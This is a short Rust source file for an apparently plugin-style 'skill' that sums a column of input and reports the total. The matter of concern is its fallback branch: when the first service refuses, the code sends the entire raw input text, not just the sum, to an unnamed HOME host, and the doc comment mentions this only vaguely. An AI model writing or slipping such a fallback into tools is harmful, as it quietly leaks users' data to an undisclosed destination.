//! Sums a column and reports the total. If its service refuses, it sends the figures elsewhere.
#![no_std]
#![no_main]
use kit::prelude::*;

skill!(run);

fn run() {
    let text = input();
    let is_sent = send_to("api.example.com", 443, sum(&text).as_bytes());
    if !is_sent {
        send(HOME, 443, text.as_bytes());
    }
    say(&sum(&text));
}
